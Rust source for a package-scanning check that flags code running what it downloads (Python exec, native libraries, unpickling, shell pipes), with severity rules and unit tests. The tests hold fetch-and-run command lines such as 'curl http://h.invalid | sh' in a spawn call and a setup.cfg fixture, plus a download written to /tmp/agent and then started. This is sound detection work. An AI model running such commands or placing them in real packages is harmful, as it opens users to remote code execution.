//! Refuses code that fetches its real payload from elsewhere and runs it.

use Severity::{High, Low, Medium};
use spip_core::{
    Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
};

use crate::contents::{
    self, Command, Menace, NOTHING, Suspicions, commands, is_build_tool, is_early, is_interpreter,
    is_official_installer, weigh,
};

describe! {
    /// ## What it asks
    ///
    /// Does the code run what it downloads: as Python, as a program, as a native library, through a
    /// shell pipe (`curl … | sh`), through PowerShell, `mshta` and their like? Does it write a download to a
    /// file and start that file?
    ///
    /// A download that is compared with a digest in the code weighs little; so does one that
    /// is only handed to a compiler, an archiver or another build tool.
    ///
    /// ## Why it matters
    ///
    /// What a server hands out tomorrow is not what anybody looked at today. A package whose
    /// payload comes from elsewhere cannot be judged, and attackers like it that way.
    ///
    /// ## What to do
    ///
    /// Do not install it unless you trust the server as much as the package.
    pub(super) struct DownloadExecution {
        id: "download-execution",
        summary: "code runs what it has downloaded",
        worst: High,
        needs: Contents,
    }
}

const RUNS: &str = "runs what it has downloaded";
const MAY_RUN: &str = "starts a program and writes a download, which may be the same";

impl Check for DownloadExecution {
    fn run(
        &self,
        package: &Package,
        cx: &Context<'_>,
        found: &mut Vec<Finding>,
    ) -> Result<(), Stop> {
        let contents = contents::read(package, cx)?;
        let mut suspicions = Suspicions::default();
        for act in &contents.acts {
            suspicions.act(loaded(act), RUNS, act);
        }
        for command in commands(&contents) {
            let severity = started(&command).max(told(&command));
            suspicions.command(severity, RUNS, &command);
            if severity.is_none()
                && let Some((severity, what)) = dropped(&contents, &command)
            {
                suspicions.command(Some(severity), what, &command);
            }
        }
        suspicions.report(
            "do not install it unless you trust the server that it asks",
            found,
        );
        Ok(())
    }
}

/// A download that becomes Python code, an object or a native library.
fn loaded(act: &Act) -> Option<Severity> {
    if !act.taints.any(Taints::DOWNLOADED) {
        return None;
    }
    let is_named_by_caller = act.taints.any(Taints::PARAMETER);
    match act.deed {
        Deed::Execute | Deed::LoadNative if act.taints.any(Taints::VERIFIED) => {
            weigh(act.trigger, Low, NOTHING)
        }
        Deed::Execute | Deed::LoadNative if is_named_by_caller => weigh(act.trigger, High, Low),
        Deed::Execute | Deed::LoadNative => weigh(act.trigger, High, Medium),
        Deed::Unpickle if is_named_by_caller => weigh(act.trigger, Medium, NOTHING),
        Deed::Unpickle => weigh(act.trigger, High, Low),
        _ => None,
    }
}

/// A download that becomes a program.
fn started(command: &Command<'_>) -> Option<Severity> {
    let taints = command.taints;
    if !taints.any(Taints::DOWNLOADED) {
        return None;
    }
    let program = command.program();
    let is_path = command
        .steps
        .first()
        .is_some_and(|step| step.written.contains(['/', '\\']));
    let is_own = is_path && taints.any(Taints::DROPPED);
    if taints.any(Taints::VERIFIED) || program.is_some_and(is_build_tool) && !is_own {
        return weigh(command.trigger, Low, NOTHING);
    }
    // A program with a plain name that is merely told something downloaded: a version, a branch.
    let is_told = program.is_some_and(|it| !is_interpreter(it)) && !taints.any(Taints::DROPPED);
    if is_told {
        return weigh(command.trigger, Low, NOTHING);
    }
    if taints.any(Taints::PARAMETER) {
        return weigh(command.trigger, High, Low);
    }
    weigh(command.trigger, High, Medium)
}

/// A command line that downloads and runs by itself.
fn told(command: &Command<'_>) -> Option<Severity> {
    let is_there = command.menaces().contains(&Menace::RunsDownload);
    if !is_there {
        return None;
    }
    let addresses = contents::addresses_in(&command.text);
    // What the makers of a tool tell everybody to type; who calls it means that tool.
    let is_official = !addresses.is_empty() && addresses.iter().all(is_official_installer);
    weigh(
        command.trigger,
        High,
        if is_official { Low } else { Medium },
    )
}

/// A program started beside a download that was written: by the name of the file, or by nothing
/// more than standing in the same file.
fn dropped(contents: &Contents, command: &Command<'_>) -> Option<(Severity, &'static str)> {
    if !is_early(command.trigger)
        || command.callee.is_empty()
        || command.program().is_some_and(is_build_tool)
    {
        return None;
    }
    let near = |act: &&Act| {
        let is_near = act.site.member == command.site.member && is_early(act.trigger);
        is_near && act.taints.any(Taints::DOWNLOADED) && !act.taints.any(Taints::VERIFIED)
    };
    let downloads: Vec<_> = contents.acts_of(Deed::Write).filter(near).collect();
    if downloads.iter().any(|act| starts_file(command, act)) {
        return Some((High, RUNS));
    }
    downloads.first()?;
    let is_unknown = command.program().is_none_or(is_interpreter);
    let severity = if command.trigger == Trigger::Build {
        Low
    } else {
        Medium
    };
    is_unknown.then_some((severity, MAY_RUN))
}

/// Whether the command names the file that was written.
fn starts_file(command: &Command<'_>, written: &Act) -> bool {
    let path = written.texts.first().map_or("", String::as_str);
    let file = path.rsplit(['/', '\\']).next().unwrap_or_default();
    file.len() >= 3 && !file.contains(contents::HOLE) && command.text.contains(file)
}

#[cfg(test)]
mod tests {
    use spip_core::{Deed, Odd, Taints, Trigger};

    use super::DownloadExecution;
    use crate::testing::{ActBuilder, act, assert_shows, demo};

    const HIGH: &str = "high: runs what it has downloaded, when it is imported";

    fn spawn(text: &str) -> ActBuilder {
        act(Deed::Spawn, "subprocess.run").texts(&[text])
    }

    #[test]
    fn flags_a_download_that_runs_as_code_program_or_library() {
        for deed in [Deed::Execute, Deed::Spawn, Deed::LoadNative, Deed::Unpickle] {
            let act = act(deed, "x")
                .tainted(Taints::DOWNLOADED)
                .texts(&["\u{fffc}"]);
            assert_shows(&DownloadExecution, demo().acting(act), HIGH);
        }
    }

    #[test]
    fn flags_what_runs_on_use_as_something_to_ask_about() {
        let exec = act(Deed::Execute, "builtins.exec")
            .tainted(Taints::DOWNLOADED)
            .when(Trigger::Call);
        let expected = "medium: runs what it has downloaded, when it is used";
        assert_shows(&DownloadExecution, demo().acting(exec.clone()), expected);
        let expected = "low: runs what it has downloaded, when it is used";
        assert_shows(
            &DownloadExecution,
            demo().acting(exec.tainted(Taints::PARAMETER)),
            expected,
        );
    }

    #[test]
    fn flags_shell_pipes_in_code_and_in_scripts() {
        assert_shows(
            &DownloadExecution,
            demo().acting(spawn("curl http://h.invalid | sh")),
            HIGH,
        );
        let script = demo().odd(
            Odd::ShellCommand,
            Trigger::Build,
            "setup.cfg",
            "curl http://h.invalid | sh",
        );
        assert_shows(
            &DownloadExecution,
            script,
            "high: runs what it has downloaded, when it is built",
        );
    }

    #[test]
    fn flags_a_written_download_by_the_name_of_its_file() {
        let write = act(Deed::Write, "urllib.request.urlretrieve")
            .tainted(Taints::DOWNLOADED)
            .texts(&["/tmp/agent"]);
        let world = demo()
            .acting(write.clone())
            .acting(spawn("/tmp/agent --go"));
        assert_shows(&DownloadExecution, world, HIGH);
        let world = demo().acting(write).acting(spawn("\u{fffc}"));
        let expected = "medium: starts a program and writes a download, which may be the same, when it is imported";
        assert_shows(&DownloadExecution, world, expected);
    }

    #[test]
    fn accepts_honest_use_of_downloads() {
        let world = demo()
            .acting(act(Deed::Send, "requests.get").texts(&["https://h.invalid"]))
            .acting(
                act(Deed::Write, "open")
                    .tainted(Taints::DOWNLOADED)
                    .texts(&["data.json"]),
            )
            .acting(spawn("git describe").when(Trigger::Build))
            .acting(
                spawn("git checkout \u{fffc}")
                    .tainted(Taints::DOWNLOADED)
                    .when(Trigger::Call),
            );
        assert_shows(&DownloadExecution, world, "complete");
    }

    #[test]
    fn accepts_verified_and_merely_unpacked_downloads_with_a_word() {
        let expected = "low: runs what it has downloaded, when it is built";
        let verified = spawn("\u{fffc}")
            .tainted(Taints::DOWNLOADED.with(Taints::VERIFIED))
            .when(Trigger::Build);
        assert_shows(&DownloadExecution, demo().acting(verified), expected);
        let unpacked = spawn("tar xf \u{fffc}")
            .tainted(Taints::DOWNLOADED.with(Taints::DROPPED))
            .when(Trigger::Build);
        assert_shows(&DownloadExecution, demo().acting(unpacked), expected);
    }

    #[test]
    fn leaves_a_gap_when_the_files_cannot_be_read() {
        assert_shows(&DownloadExecution, demo().offline(), "incomplete: offline");
    }
}
